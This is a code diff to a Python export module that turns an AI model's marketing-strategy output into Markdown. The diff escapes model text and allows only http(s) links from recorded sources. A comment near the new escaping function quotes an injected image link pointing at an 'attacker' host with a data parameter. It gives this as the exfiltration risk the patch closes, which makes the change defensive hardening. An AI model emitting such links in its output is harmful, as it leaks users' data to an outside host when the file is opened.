@@ -7,6 +7,7 @@ Headings are in the strategy's language (Romanian or English).
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 from cli.errors import CliError, Exit
@@ -90,8 +91,24 @@ def strategy_of(task: dict[str, Any]) -> dict[str, Any]:
     return {**strategy, "steps": steps}
 
 
+# Model text is text in the export, never Markdown or HTML of its own (issue 18: an
+# injected `![x](https://attacker/?d=...)` would be fetched by whatever opens the file).
+# CommonMark lets any ASCII punctuation be backslash-escaped: these are the ones that
+# start images, links, HTML, emphasis, code or tables; "://", "www." and "@" are broken
+# too, so that no autolink appears. Links come only from the task's recorded sources.
+_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>!|~&#])")
+_AUTOLINK = re.compile(r"(:)(?=//)|(?<=www)(\.)|(@)", re.IGNORECASE)
+
+
+def md_text(text: Any) -> str:
+    """One line of model text, as literal text in Markdown."""
+    flat = " ".join(str(text).split())
+    escaped = _MARKDOWN_SPECIAL.sub(r"\\\1", flat)
+    return _AUTOLINK.sub(lambda match: "\\" + match.group(), escaped)
+
+
 def _cell(text: Any) -> str:
-    return " ".join(str(text).split()).replace("|", "\\|")
+    return md_text(text)
 
 
 def to_markdown(task: dict[str, Any]) -> str:
@@ -99,16 +116,19 @@ def to_markdown(task: dict[str, Any]) -> str:
     language = (task.get("request") or {}).get("language")
     words = labels_for(language)
     budget = float(strategy.get("required_budget") or 0)
-    lines = [f"# {strategy.get('strategy_name', '')}", ""]
-    lines.append(f"- **{words['audience']}:** {strategy.get('target_audience', '')}")
+    lines = [f"# {md_text(strategy.get('strategy_name', ''))}", ""]
+    lines.append(f"- **{words['audience']}:** {md_text(strategy.get('target_audience', ''))}")
     lines.append(f"- **{words['budget']}:** {eur(budget, language)}")
     if strategy.get("timeline_weeks"):
         lines.append(f"- **{words['timeline']}:** {strategy['timeline_weeks']} {words['weeks']}")
     lines.append("")
     if strategy.get("summary"):
-        lines += [f"## {words['summary']}", "", str(strategy["summary"]), ""]
+        lines += [f"## {words['summary']}", "", md_text(strategy["summary"]), ""]
     lines += [f"## {words['steps']}", ""]
-    lines += [f"{s.get('step_number')}. {s.get('description', '')}" for s in strategy["steps"]]
+    lines += [
+        f"{int(s.get('step_number') or 0)}. {md_text(s.get('description', ''))}"
+        for s in strategy["steps"]
+    ]
     lines.append("")
     channels = strategy.get("channels") or []
     if channels:
@@ -128,20 +148,33 @@ def to_markdown(task: dict[str, Any]) -> str:
     for key, label in (("kpis", "kpis"), ("key_messages", "messages")):
         items = strategy.get(key) or []
         if items:
-            lines += [f"## {words[label]}", ""] + [f"- {item}" for item in items] + [""]
+            lines += [f"## {words[label]}", ""] + [f"- {md_text(item)}" for item in items] + [""]
     if strategy.get("visual_brief"):
-        lines += [f"## {words['visual']}", "", str(strategy["visual_brief"]), ""]
+        lines += [f"## {words['visual']}", "", md_text(strategy["visual_brief"]), ""]
     sources = (task.get("result") or {}).get("sources") or []
     if sources:
         lines += [f"## {words['sources']}", ""]
         for source in sources:
             label = source.get("title") or source.get("domain") or source.get("url")
-            lines.append(f"- [{_cell(label)}]({source.get('url')}) ({source.get('status')})")
+            url = _link_target(source.get("url"))
+            status = md_text(source.get("status"))
+            lines.append(
+                f"- [{md_text(label)}]({url}) ({status})" if url else f"- {md_text(label)}"
+            )
         lines.append("")
     model = (task.get("result") or {}).get("model")
     footer = f"{words['task']} `{task.get('task_id', '')}`"
     lines.append(f"_{footer}, {words['model']} {model}_" if model else f"_{footer}_")
     return "\n".join(lines) + "\n"
+
+
+def _link_target(url: Any) -> str | None:
+    """A recorded source's URL as a Markdown link target (<...>, spaces and brackets
+    percent-encoded), or None when it is not http(s)."""
+    text = str(url or "")
+    if not re.match(r"https?://", text, re.IGNORECASE):
+        return None
+    return "<" + re.sub(r"[<>\s]", lambda m: f"%{ord(m.group()):02X}", text) + ">"
 
 
 def to_text(task: dict[str, Any]) -> str:
